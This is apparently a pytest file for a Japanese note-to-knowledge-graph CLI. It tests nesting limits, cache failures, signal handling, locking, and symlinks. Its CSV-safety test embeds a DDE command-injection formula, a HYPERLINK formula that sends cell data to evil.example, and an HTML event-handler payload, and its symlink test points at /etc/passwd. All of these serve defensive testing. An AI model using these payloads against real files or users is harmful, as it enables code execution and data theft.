"""Faults and hostile input, round two (issue 14): each case is tried as an attacker or an unlucky
user would, with real processes, real signals and a real full filesystem.

1. markup the parser cannot hold (deep nesting) degrades to plain text, never to lost text;
2. no CSV cell starts a formula, and no name carries markup;
3. the NER workers die with their parent, and SIGTERM ends a build like Ctrl-C;
4. a cache that cannot be created, opened or written never stops a build;
5. reading is linear in the length of a line, and a long block reaches NER (and the cache) in parts;
6. one build at a time writes to an OUT folder;
7. temporary files of killed builds are removed, and OUT is checked before any NER;
8. an input with no notes is a warning, and links out of the input folder are not followed.

The full and read-only filesystems are small tmpfs mounts: .ci/run makes them and names them in
$KG_TEST_FULL_FS and $KG_TEST_READONLY_FS; elsewhere a test run as root mounts its own. Without
either they fail in CI and skip on a developer's machine.
"""

from __future__ import annotations

import csv
import errno
import functools
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import networkx as nx
import pytest
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kg.extract.cache import SpanCache
from kg.cli import main
from kg.extract import DEFAULT_MODEL
from kg.notes import NotesOptions, parse_note, read_vault
from kg.stamp import STAMP

ROOT = Path(__file__).resolve().parent.parent
KG = Path(sys.executable).parent / "kg"  # the console script of this environment: .venv/bin/kg
OUTPUTS = ("graph.graphml", "graph.json", "nodes.csv", "edges.csv", "sentences.csv", "mentions.csv", "graph.html",
           "report.json", "relations.csv", "relations.graphml", "relations.json", "communities.json", "communities.csv",
           "report.md", STAMP)
CACHE_FILE = "ner-spans.sqlite3"
EXIT_TERMINATED = 143  # 128 + SIGTERM, what shells report for a terminated process

SENTENCES = [
    "日本政府はデジタル分野での国際協力を進めている。",
    "ケニアとペルーは通信網の整備で協力することに合意した。",
    "総務省は東南アジア諸国との対話を重ねてきた。",
    "フィンランドの企業は北欧で広く事業を展開している。",
    "各国の閣僚は信頼性のある自由なデータ流通について議論した。",
    "モンゴルとチリの代表は会合で新たな枠組みを示した。",
]


def japanese(length: int, seed: int = 0) -> str:
    """Return real Japanese sentences, `length` characters or a little more, in an order set by seed."""
    out, i = [], seed
    while sum(map(len, out)) < length:
        out.append(SENTENCES[i % len(SENTENCES)] if i % 7 else f"第{i}の論点として、" + SENTENCES[(i * 5) % 6])
        i += 1
    return "".join(out)


def kg_env(cache: Path) -> dict[str, str]:
    """Return the environment for a `kg build` with its own cache folder."""
    return {**os.environ, "KG_CACHE_DIR": str(cache), "PYTHONUNBUFFERED": "1"}


def cache_rows(folder: Path) -> int:
    """Return how many entries the NER cache in folder holds (0 when it has no file or table)."""
    path = folder / CACHE_FILE
    if not path.exists() or not path.stat().st_size:
        return 0
    db = sqlite3.connect(f"file:{path}?mode=ro", uri=True, timeout=30)
    try:
        return db.execute("SELECT count(*) FROM spans").fetchone()[0]
    except sqlite3.OperationalError:  # no table yet
        return 0
    finally:
        db.close()


def cache_keys(folder: Path) -> set[str]:
    """Return the keys of the entries in the NER cache in folder."""
    db = sqlite3.connect(f"file:{folder / CACHE_FILE}?mode=ro", uri=True, timeout=30)
    try:
        return {key for (key,) in db.execute("SELECT key FROM spans")}
    finally:
        db.close()


def children_of(pid: int) -> list[int]:
    """Return the pids of a process's children."""
    try:
        return [int(p) for p in Path(f"/proc/{pid}/task/{pid}/children").read_text().split()]
    except FileNotFoundError:
        return []


def alive(pid: int) -> bool:
    """Return whether a process exists and is not a zombie."""
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return False
    return state != "Z"


def wait_for_workers(build: subprocess.Popen, count: int = 2, timeout: float = 180) -> list[int]:
    """Return the pids of a build's NER workers once `count` of them run (after the model loads)."""
    deadline = time.monotonic() + timeout
    while len(workers := children_of(build.pid)) < count:
        assert build.poll() is None, build.communicate()
        assert time.monotonic() < deadline, "the NER workers never started"
        time.sleep(0.05)
    return workers


def kill_all(pids: list[int]) -> None:
    """Kill the processes that are still there (workers a failing test would leave behind)."""
    for pid in pids:
        try:
            os.kill(pid, signal.SIGKILL)
        except ProcessLookupError:
            pass


def busy_vault(folder: Path, notes: int = 2, length: int = 9_000) -> Path:
    """Return a folder of long notes that keep two NER workers busy for several seconds."""
    folder.mkdir(parents=True)
    for i in range(notes):
        (folder / f"long{i}.md").write_text(f"# 長い文書{i}\n\n{japanese(length, seed=i * 11)}\n", encoding="utf-8")
    return folder


def snapshot(out: Path) -> dict[str, bytes]:
    """Return every file in out by name."""
    return {p.name: p.read_bytes() for p in sorted(out.iterdir())}


def report_of(out: Path) -> dict:
    """Return OUT/report.json."""
    return json.loads((out / "report.json").read_text(encoding="utf-8"))


# -- real filesystems: full and read-only tmpfs mounts ------------------------------------------


def _mounted(env: str, options: str, tmp_path_factory) -> Iterator[Path]:
    """Yield a tmpfs mount point: $env from .ci/run, else one this test mounts (root only)."""
    if os.environ.get(env):
        path = Path(os.environ[env])
        assert os.path.ismount(path), f"${env}={path} is not a mount point"
        yield path
        return
    point = tmp_path_factory.mktemp(env.lower())
    made = subprocess.run(["mount", "-t", "tmpfs", "-o", options, "kg-test", str(point)], capture_output=True, text=True) \
        if os.geteuid() == 0 else None
    if made is None or made.returncode:
        message = f"no {options} tmpfs: set ${env} or run as root ({made.stderr.strip() if made else 'not root'})"
        if os.environ.get("CI"):
            pytest.fail(message)
        pytest.skip(message)
    try:
        yield point
    finally:
        subprocess.run(["umount", "-l", str(point)], check=False)


@pytest.fixture(scope="module")
def full_fs(tmp_path_factory) -> Iterator[Path]:
    """Yield the root of a small tmpfs; tests fill a folder of it with `fill`."""
    yield from _mounted("KG_TEST_FULL_FS", "size=2m", tmp_path_factory)


@pytest.fixture(scope="module")
def readonly_fs(tmp_path_factory) -> Iterator[Path]:
    """Yield the root of a read-only tmpfs."""
    yield from _mounted("KG_TEST_READONLY_FS", "ro,size=64k", tmp_path_factory)


@pytest.fixture
def full_folder(full_fs: Path, request) -> Iterator[Path]:
    """Yield an empty folder on the small tmpfs; the filler is removed afterwards."""
    folder = full_fs / re.sub(r"\W", "_", request.node.name)
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def fill(folder: Path) -> None:
    """Fill the filesystem of folder to the last byte."""
    fd = os.open(folder / "filler", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    try:
        for size in (1 << 16, 1 << 12, 1 << 9, 1):
            while True:
                try:
                    os.write(fd, b"\xff" * size)
                except OSError as error:
                    assert error.errno == errno.ENOSPC
                    break
    finally:
        os.close(fd)
    with pytest.raises(OSError):
        (folder / "probe").write_bytes(b"x" * 4096)
    (folder / "probe").unlink(missing_ok=True)


# == 1. markup the parser cannot hold degrades to plain text ====================================


def test_a_list_nested_twelve_levels_keeps_every_item_and_all_that_follows():
    items = [f"{'  ' * i}- 項目{i}番" for i in range(12)]
    text = "# 前\n\n" + "\n".join(items) + "\n\n## 後の見出し\n\nケニアの話。\n"
    note, warnings = parse_note(text, "deep.md")
    for i in range(12):
        block = next(b for b in note.blocks if f"項目{i}番" in b.text)
        assert block.kind == "list_item" and block.line == 3 + i
    assert note.blocks[-1].text == "ケニアの話。"
    assert note.blocks[-1].heading_path == ("前", "後の見出し")
    assert warnings == []


DEEP = {
    "5,000 list markers": "- " * 5_000 + "ケニア",
    "5,000 quote markers": "> " * 5_000 + "ケニア",
    "5,000 bare quote markers": ">" * 5_000 + "ケニア",
    "2,500 quotes in lists": "> - " * 2_500 + "ケニア",
    "3,000 ordered markers": "1. " * 3_000 + "ケニア",
    "300 indented levels": "\n".join(f"{'  ' * i}- 段{i}" for i in range(300)) + "\n" + "  " * 300 + "- ケニア",
    "200 quote lines": "\n".join("> " * i + f"段{i}" for i in range(1, 200)) + "\n" + "> " * 200 + "ケニア",
}


@pytest.mark.parametrize("deep", DEEP.values(), ids=DEEP.keys())
def test_markup_nested_beyond_the_parser_is_read_as_text_with_a_warning(deep):
    text = f"# 前\n\n{deep}\n\n# 後\n\nペルーの話。\n"
    started = time.process_time()
    note, warnings = parse_note(text, "deep.md")
    assert time.process_time() - started < 5
    shown = " ".join(b.text for b in note.blocks)
    assert "ケニア" in shown
    for word in re.findall(r"段\d+", deep):
        assert re.search(rf"{word}(?!\d)", shown), word
    assert (note.blocks[-1].text, note.blocks[-1].heading_path) == ("ペルーの話。", ("後",))
    deep_lines = range(3, 3 + deep.count("\n") + 1)
    where = [int(m.group(1)) for w in warnings if (m := re.match(r"deep\.md:(\d+): .*nest", w))]
    assert len(where) == 1 and where[0] in deep_lines, warnings


def test_deep_nesting_reaches_report_json_and_does_not_skip_the_note(tmp_path):
    vault = tmp_path / "vault"
    vault.mkdir()
    (vault / "deep.md").write_text("# 前\n\n" + "> " * 5_000 + "本文\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(vault), "-o", str(tmp_path / "out"), "-q", "--no-cache"])
    assert result.exit_code == 0, result.output
    report = report_of(tmp_path / "out")
    assert report["skipped"] == [] and report["counts"]["notes"] == 1
    assert any(w.startswith("deep.md:3: ") and "nest" in w for w in report["warnings"]), report["warnings"]


@pytest.mark.parametrize("text, shown", [
    ("詳しくは https://example.jp/pageを参照。次の文。", "詳しくは を参照。次の文。"),
    ("窓口 info@example.jpまで連絡する。", "窓口 まで連絡する。"),
    ("(https://example.jp/page)と書く", "()と書く"),
])
def test_a_bare_url_ends_where_ascii_does_so_the_japanese_after_it_is_kept(text, shown):
    note, _ = parse_note(text, "url.md")
    assert note.blocks[0].text == shown


# Hypothesis writes notes of nested and malformed markup around placeholder words; every word
# sits where a reader sees it (never in a URL, code, math, a comment or a link target), so every
# word must reach the text of some block.
_WORD = "\ue000"  # a placeholder, numbered into a distinct word once the note is written


def _inline(children: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """Return inline markup around children: emphasis, links, wikilinks and their broken halves."""
    return st.one_of(
        st.tuples(children, st.sampled_from([" ", "", "、"]), children).map("".join),
        children.map(lambda s: f"*{s}*"),
        children.map(lambda s: f"**{s}**"),
        children.map(lambda s: f"_{s}_"),
        children.map(lambda s: f"{_WORD} ~~{s}~~"),  # never at a line's start: ~~~ opens a code fence
        children.map(lambda s: f"[{s}](https://example.com/page)"),
        children.map(lambda s: f" ^[{s}]"),  # after a space: [^…] would be a footnote reference
        st.just(f"[[ノート|{_WORD}]]"),
        st.just(f"[[{_WORD}]]"),
        # the broken halves: a bracket, a wikilink or an emphasis that never closes or never opened
        st.tuples(st.sampled_from(["[", "[[", "**", "*", "]", "]]", "|"]), children).map("".join),
        st.tuples(children, st.sampled_from(["]", "]]", "**", "*", "[", "[[", "|"])).map("".join),
    )


_INLINE = st.recursive(st.just(_WORD), _inline, max_leaves=6)
_MARKERS = {"- ": "  ", "* ": "  ", "+ ": "  ", "1. ": "   ", "> ": "> ", ">": ">"}


def _nest(marker: str, lines: list[str], depth: int = 1, lazy: bool = False) -> list[str]:
    """Return lines inside `depth` containers opened by marker (continuations unindented if lazy)."""
    for _ in range(depth):
        rest = "" if lazy else _MARKERS[marker]
        lines = [marker + lines[0], *[(rest + line if line or rest.strip() else line) for line in lines[1:]]]
    return lines


def _blocks(children: st.SearchStrategy[list[str]]) -> st.SearchStrategy[list[str]]:
    """Return block markup around children: lists, quotes, callouts, deep and lazy nesting."""
    markers = st.sampled_from(list(_MARKERS))
    return st.one_of(
        st.tuples(children, children).map(lambda ab: [*ab[0], "", *ab[1]]),
        st.tuples(markers, children).map(lambda mc: _nest(mc[0], mc[1])),
        # lazy continuation lines: a paragraph's later lines without the container's markers
        st.tuples(markers, st.lists(_INLINE, min_size=2, max_size=3)).map(lambda mc: _nest(mc[0], mc[1], lazy=True)),
        st.tuples(markers, st.integers(2, 80), children).map(lambda mdc: _nest(mdc[0], mdc[2], mdc[1])),
        children.map(lambda lines: _nest("> ", [f"[!note] {_WORD}", *lines])),
    )


_LEAF = st.one_of(
    st.lists(_INLINE, min_size=1, max_size=3),
    _INLINE.map(lambda s: [f"## {s}"]),
)
_NOTE = st.recursive(_LEAF, _blocks, max_leaves=8)


def _numbered(lines: list[str]) -> tuple[str, list[str]]:
    """Return the note with each placeholder replaced by its own word, and the words."""
    text, words = "\n".join(lines) + "\n", []
    while _WORD in text:
        words.append(f"語{len(words)}番")
        text = text.replace(_WORD, words[-1], 1)
    return text, words


@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(_NOTE, _NOTE)
def test_every_visible_word_of_nested_and_malformed_markup_reaches_a_block(first, then):
    text, words = _numbered([*first, "", "# 後の見出し", "", *then])
    note, _ = parse_note(text, "gen.md")
    shown = "\n".join(b.text for b in note.blocks)
    missing = [w for w in words if not re.search(rf"{w}(?!\d)", shown)]
    assert not missing, f"lost {missing} of\n{text}"


# == 2. no formula in a CSV, no markup in a name ===============================================

HOSTILE_NAMES = """# =cmd|' /C calc'!A0 の見出し

[[経済協力開発機構|=HYPERLINK("http://evil.example/?d="&A1,"詳細")機構]]は会合を開いた。

日本とケニアは「+1-1協定」と「-2+3協定」を結んだ。

[[経済協力開発機構|<b onmouseover=alert(1)>経済協力開発機構</b>]]とペルーが協力する。

=1+1 とチリは書いた。
"""
FORMULA_START = tuple("=+-@\t\r")


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.ginza
def test_no_csv_cell_starts_a_formula_and_no_name_carries_markup(tmp_path, nlp):
    vault = tmp_path / "vault"
    vault.mkdir()
    (vault / "=1+2.md").write_text(HOSTILE_NAMES, encoding="utf-8")
    (vault / "@note.md").write_text("ケニアとチリは協力する。\n", encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", str(vault), "-o", str(out), "-q", "--measure", "npmi"])
    assert result.exit_code == 0, result.output
    neutralised = []
    for name in ("nodes.csv", "edges.csv", "mentions.csv"):
        rows = list(csv.reader((out / name).read_text(encoding="utf-8-sig").splitlines(True)))
        assert len(rows) > 1, name
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(FORMULA_START) or _is_number(cell), (name, cell)
                neutralised += [cell] if cell.startswith("'") else []
    # neutralised, not removed: the names are still there, behind a quote, and raw in the graph
    assert {"'+1-1協定", "'-2+3協定", "'=1+2.md", "'@note.md"} <= set(neutralised)
    labels = {d["label"] for _, d in nx.read_graphml(out / "graph.graphml").nodes(data=True)}
    assert {"+1-1協定", "-2+3協定", "ケニア", "ペルー", "チリ"} <= labels
    assert not [label for label in labels if set(label) & set("<>=\"&")], labels


# == 5. long lines read in linear time; long blocks reach NER in parts ===========================


def test_a_5_mb_line_reads_in_seconds(tmp_path):
    """Base64 (a pasted image) and Japanese with URL-like characters, 5 MB on one line."""
    import base64

    chunk = base64.b64encode(bytes(range(256)) * 12).decode() + "時刻は10:00、www.example.jpとinfo@example.jpとhttp:も参照。"
    line = (chunk * (5_000_000 // len(chunk) + 1))[:5_000_000]
    (tmp_path / "line.md").write_text(f"# 長い行\n\n{line}\n", encoding="utf-8")
    script = ("import sys, time; from kg.notes import read_note; t = time.process_time(); "
              "note, _ = read_note(sys.argv[1], 'line.md'); "
              "print(time.process_time() - t, sum(len(b.text) for b in note.blocks))")
    try:
        done = subprocess.run([sys.executable, "-c", script, str(tmp_path / "line.md")],
                              capture_output=True, text=True, cwd=ROOT, timeout=120, check=True)
    except subprocess.TimeoutExpired:
        pytest.fail("reading one 5 MB line took more than two minutes")
    seconds, characters = done.stdout.split()
    assert float(seconds) < 15
    assert int(characters) >= len(line) * 0.95  # the URLs and the address are not text; the rest is


def test_a_long_block_is_cached_in_parts_as_ner_goes(tmp_path):
    """Interrupted halfway through one long paragraph, a build has already cached its first parts."""
    vault, cache = tmp_path / "vault", tmp_path / "cache"
    vault.mkdir()
    text = japanese(15_000, seed=3)
    (vault / "long.md").write_text(text + "\n", encoding="utf-8")
    build = subprocess.Popen([str(KG), "build", str(vault), "-o", str(tmp_path / "out"), "-q", "--jobs", "1"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=kg_env(cache), cwd=ROOT,
                             # as a terminal's foreground job: a background runner passes Ctrl-C on ignored
                             preexec_fn=functools.partial(signal.signal, signal.SIGINT, signal.SIG_DFL))
    deadline = time.monotonic() + 240
    while not cache_rows(cache):
        assert build.poll() is None, build.communicate()
        assert time.monotonic() < deadline, "nothing was cached"
        time.sleep(0.05)
    build.send_signal(signal.SIGINT)
    _, stderr = build.communicate(timeout=60)
    assert build.returncode == 130, stderr
    whole = SpanCache.open(DEFAULT_MODEL, tmp_path / "probe").key(text)
    keys = cache_keys(cache)
    assert keys and whole not in keys, "the paragraph reached the cache only once NER had read all of it"


# == 6. one build at a time writes to an OUT folder ==============================================


def test_a_second_build_into_the_same_out_waits_for_the_first(tmp_path):
    out = tmp_path / "out"
    first = subprocess.Popen([str(KG), "build", str(busy_vault(tmp_path / "busy")), "-o", str(out), "-q", "--jobs", "2"],
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=kg_env(tmp_path / "c1"),
                             cwd=ROOT)
    workers = wait_for_workers(first)  # the first build is in its NER, with OUT in hand
    try:
        (tmp_path / "quick").mkdir()
        (tmp_path / "quick" / "empty.md").write_text("", encoding="utf-8")  # no text: no NER at all
        second = subprocess.run([str(KG), "build", str(tmp_path / "quick"), "-o", str(out), "-q"],
                                capture_output=True, text=True, env=kg_env(tmp_path / "c2"), cwd=ROOT, timeout=300)
        assert first.wait(timeout=300) == 0 and second.returncode == 0, second.stderr
        assert any("waiting" in line and str(out) in line for line in second.stderr.splitlines()), second.stderr
        assert report_of(out)["counts"]["notes"] == 1  # the second build wrote last, all its files
        assert sorted(p.name for p in out.iterdir()) == sorted(OUTPUTS)
    finally:
        first.kill()
        first.communicate()
        kill_all(workers)


# == 7. leftovers of killed builds; OUT checked before any NER ==================================


def test_temporary_files_of_killed_builds_are_removed_and_nothing_else(tmp_path):
    (tmp_path / "vault").mkdir()
    (tmp_path / "vault" / "empty.md").write_text("", encoding="utf-8")
    out = tmp_path / "out"
    out.mkdir()
    leftovers = [".graph.graphml.k2j_3h4x.tmp", ".nodes.csv.abc123.tmp", ".report.json.zz9.tmp"]
    mine = [".keep", "mine.txt", ".mine.tmp", ".notes.txt.abc.tmp"]
    for name in leftovers + mine:
        (out / name).write_text("x", encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(tmp_path / "vault"), "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in out.iterdir()) == sorted([*OUTPUTS, *mine])


def _fails_before_ner(tmp_path: Path, monkeypatch, out: Path) -> str:
    """Return the stderr of a build into out that must fail before NER reads anything."""
    cache = tmp_path / "cache"
    monkeypatch.setenv("KG_CACHE_DIR", str(cache))
    vault = tmp_path / "vault"
    vault.mkdir(exist_ok=True)
    (vault / "a.md").write_text("ケニアとペルーは協力する。\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(vault), "-o", str(out), "-q", "--jobs", "1"])
    assert result.exit_code == 1, result.output
    assert cache_rows(cache) == 0, "NER ran before OUT was checked"
    assert ".tmp" not in result.stderr and "Traceback" not in result.output
    assert len(result.stderr.splitlines()) == 1 and str(out) in result.stderr, result.stderr
    return result.stderr


@pytest.mark.ginza
def test_an_out_that_is_a_file_fails_before_ner_and_is_named(tmp_path, monkeypatch, nlp):
    out = tmp_path / "out.txt"
    out.write_text("mine\n", encoding="utf-8")
    _fails_before_ner(tmp_path, monkeypatch, out)
    assert out.read_text(encoding="utf-8") == "mine\n"


@pytest.mark.ginza
def test_an_out_under_a_file_fails_before_ner_and_is_named(tmp_path, monkeypatch, nlp):
    (tmp_path / "a-file").write_text("mine\n", encoding="utf-8")
    _fails_before_ner(tmp_path, monkeypatch, tmp_path / "a-file" / "out")


@pytest.mark.ginza
def test_an_out_on_a_read_only_filesystem_fails_before_ner_and_is_named(tmp_path, monkeypatch, readonly_fs, nlp):
    stderr = _fails_before_ner(tmp_path, monkeypatch, readonly_fs)
    assert "read-only" in stderr.lower()


# == 3. the NER workers die with their parent; SIGTERM ends a build like Ctrl-C =================


def _start_busy_build(tmp_path: Path, stdout=subprocess.PIPE) -> tuple[subprocess.Popen, Path, list[int]]:
    """Return a `kg build --jobs 2` of a busy vault, its OUT (holding old outputs) and its workers."""
    vault, out = busy_vault(tmp_path / "vault"), tmp_path / "out"
    out.mkdir()
    for name in OUTPUTS:
        (out / name).write_text("previous build\n", encoding="utf-8")
    build = subprocess.Popen(
        [str(KG), "build", str(vault), "-o", str(out), "-q", "--jobs", "2"], stdout=stdout,
        stderr=subprocess.PIPE, text=True, env=kg_env(tmp_path / "cache"), cwd=ROOT, start_new_session=True,
    )
    return build, out, wait_for_workers(build)


def _gone_within(pids: list[int], seconds: float) -> list[int]:
    """Return the pids still alive after waiting up to `seconds` for them to end."""
    deadline = time.monotonic() + seconds
    while (left := [p for p in pids if alive(p)]) and time.monotonic() < deadline:
        time.sleep(0.1)
    return left


def test_kill_9_of_a_build_takes_its_workers_and_closes_its_pipe(tmp_path):
    """`kg build | tee log` must end when kg is killed: no worker may outlive it or hold the pipe."""
    build, _, workers = _start_busy_build(tmp_path)
    try:
        time.sleep(1)
        build.kill()
        build.wait(timeout=10)
        assert not _gone_within(workers, 10), "NER workers outlived their parent"
        os.set_blocking(build.stdout.fileno(), False)
        deadline = time.monotonic() + 5
        while True:  # EOF comes only when nobody holds the write end of the pipe
            try:
                if build.stdout.buffer.read1() == b"":
                    break
            except BlockingIOError:
                pass
            assert time.monotonic() < deadline, "the build's stdout pipe is still held open"
            time.sleep(0.1)
    finally:
        kill_all(workers)
        build.stdout.close()
        build.stderr.close()


def test_sigterm_ends_a_build_like_ctrl_c_with_one_line_and_exit_143(tmp_path):
    build, out, workers = _start_busy_build(tmp_path)
    try:
        time.sleep(1)
        os.kill(build.pid, signal.SIGTERM)  # the parent alone, as `kill PID` or a service manager does
        stdout, stderr = build.communicate(timeout=60)
        assert build.returncode == EXIT_TERMINATED, stderr
        assert stderr == f"kg: terminated; the outputs in {out} are as they were\n"
        assert stdout == ""
        assert not _gone_within(workers, 10), "NER workers outlived their parent"
        assert snapshot(out) == {name: b"previous build\n" for name in sorted(OUTPUTS)}
    finally:
        kill_all(workers)


def test_sigterm_and_its_exit_code_are_documented():
    help_text = CliRunner().invoke(main, ["build", "--help"]).output
    # the exit codes' table opens the docs page on bad input, before its first section
    page = (ROOT / "docs" / "reference" / "bad-input.md").read_text(encoding="utf-8")
    section = page.split("# Bad input, reports and exit codes", 1)[1].split("\n## ", 1)[0]
    assert re.search(r"^\s+143\s.*SIGTERM", help_text, re.M)
    assert re.search(r"^\| 143 \|.*SIGTERM", section, re.M)


# == 4. the cache never stops a build ============================================================


def _build_with_cache(cache: Path, tmp_path: Path, text: str) -> tuple[subprocess.CompletedProcess, Path]:
    """Return the finished `kg build` of one note with the NER cache in `cache`, and its OUT."""
    vault, out = tmp_path / "vault", tmp_path / "out"
    vault.mkdir(exist_ok=True)
    (vault / "a.md").write_text(text, encoding="utf-8")
    done = subprocess.run([str(KG), "build", str(vault), "-o", str(out), "-q", "--jobs", "1"],
                          capture_output=True, text=True, env=kg_env(cache), cwd=ROOT, timeout=300)
    return done, out


def _check_cache_fallback(done: subprocess.CompletedProcess, out: Path, cache: Path) -> None:
    """Check a build that could not use its cache: built, one line about it, and report.json says so."""
    assert done.returncode == 0, done.stderr
    assert "Traceback" not in done.stderr and "Warning" not in done.stderr, done.stderr
    lines = [line for line in done.stderr.splitlines() if str(cache) in line]
    assert len(lines) == 1 and "NER cache" in lines[0], done.stderr
    report = report_of(out)
    assert any("cache" in w and str(cache) in w for w in report["warnings"]), report["warnings"]
    assert {"ケニア", "ペルー"} <= {d["label"] for _, d in nx.read_graphml(out / "graph.graphml").nodes(data=True)}


def test_a_cache_folder_on_a_full_disk_never_stops_a_build(full_folder, tmp_path):
    cache = full_folder / "cache"
    cache.mkdir()
    fill(full_folder)
    done, out = _build_with_cache(cache, tmp_path, "ケニアとペルーは協力する。\n")
    _check_cache_fallback(done, out, cache)
    assert [p.name for p in cache.iterdir() if not p.stat().st_size] == [], "an empty cache file was left"


def test_a_cache_that_cannot_grow_keeps_the_build_going_with_one_line(full_folder, tmp_path):
    cache = full_folder / "cache"
    store = SpanCache.open(DEFAULT_MODEL, cache)
    store.put_many({"既にある文。": ()})
    store.close()
    fill(full_folder)
    done, out = _build_with_cache(cache, tmp_path, "# ケニア\n\n" + "\n\n".join(japanese(300, i) for i in range(6)) +
                                  "\n\nケニアとペルーは協力する。\n")
    _check_cache_fallback(done, out, cache)
    assert cache_rows(cache) == 1


def test_a_cache_folder_that_cannot_be_made_never_stops_a_build(tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder\n", encoding="utf-8")
    done, out = _build_with_cache(blocker / "cache", tmp_path, "ケニアとペルーは協力する。\n")
    _check_cache_fallback(done, out, blocker / "cache")


# == 8. no notes is a warning; links out of the input folder are not followed ====================


def test_an_input_with_no_notes_is_a_warning_and_strict_exits_3(tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "picture.png").write_bytes(b"\x89PNG\r\n")
    result = CliRunner().invoke(main, ["build", str(empty), "-o", str(tmp_path / "out"), "-q"])
    assert result.exit_code == 0, result.output
    assert any(str(empty) in w and "no notes" in w for w in report_of(tmp_path / "out")["warnings"])
    strict = CliRunner().invoke(main, ["build", str(empty), "-o", str(tmp_path / "out"), "-q", "--strict"])
    assert strict.exit_code == 3, strict.output
    assert "no notes" in strict.stderr.splitlines()[-1]


def _vault_with_links_out(tmp_path: Path) -> Path:
    """Return a vault with a note, a link to a note inside it, and links to a file and a folder outside."""
    outside, vault = tmp_path / "outside", tmp_path / "vault"
    (outside / "folder").mkdir(parents=True)
    (outside / "secret.md").write_text("ケニアの秘密。\n", encoding="utf-8")
    (outside / "folder" / "other.md").write_text("ペルーの話。\n", encoding="utf-8")
    (vault / "sub").mkdir(parents=True)
    (vault / "sub" / "inside.md").write_text("チリの話。\n", encoding="utf-8")
    os.symlink("sub", vault / "also")  # a folder link that stays inside: read as before
    os.symlink(outside / "secret.md", vault / "secret.md")
    os.symlink("../outside/folder", vault / "folder")
    os.symlink("/etc/passwd", vault / "passwd.md")
    return vault


def test_links_out_of_the_vault_are_skipped_and_reported(tmp_path):
    vault = read_vault([_vault_with_links_out(tmp_path)])
    assert [n.path for n in vault.notes] == ["also/inside.md"] or [n.path for n in vault.notes] == ["sub/inside.md"]
    skipped = {s.path: s.reason for s in vault.skipped}
    assert sorted(skipped) == ["folder", "passwd.md", "secret.md"]
    assert all("outside" in reason for reason in skipped.values()), skipped


def test_follow_symlinks_reads_links_out_of_the_vault(tmp_path):
    vault = read_vault([_vault_with_links_out(tmp_path)], NotesOptions(follow_symlinks=True))
    paths = {n.path for n in vault.notes}
    assert {"secret.md", "folder/other.md", "passwd.md"} <= paths
    assert vault.skipped == ()


@pytest.mark.ginza
def test_links_out_of_the_vault_reach_report_json_and_the_option_follows_them(tmp_path, nlp):
    vault = _vault_with_links_out(tmp_path)
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", str(vault), "-o", str(out), "-q"])
    assert result.exit_code == 0, result.output
    assert sorted(s["path"] for s in report_of(out)["skipped"]) == ["folder", "passwd.md", "secret.md"]
    labels = {d["label"] for _, d in nx.read_graphml(out / "graph.graphml").nodes(data=True)}
    assert "チリ" in labels and not {"ケニア", "ペルー"} & labels
    followed = CliRunner().invoke(main, ["build", str(vault), "-o", str(out), "-q", "--follow-symlinks"])
    assert followed.exit_code == 0, followed.output
    labels = {d["label"] for _, d in nx.read_graphml(out / "graph.graphml").nodes(data=True)}
    assert {"チリ", "ケニア", "ペルー"} <= labels
